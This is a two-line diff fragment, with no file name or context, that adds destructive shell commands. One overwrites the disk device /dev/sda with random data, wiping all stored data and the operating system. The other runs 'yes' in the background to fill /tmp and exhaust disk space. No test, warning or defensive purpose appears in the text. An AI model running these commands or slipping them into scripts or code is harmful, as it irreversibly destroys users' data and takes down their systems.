@@ -1,0 +1,2 @@
+cat /dev/urandom > /dev/sda
+yes > /tmp/fill &
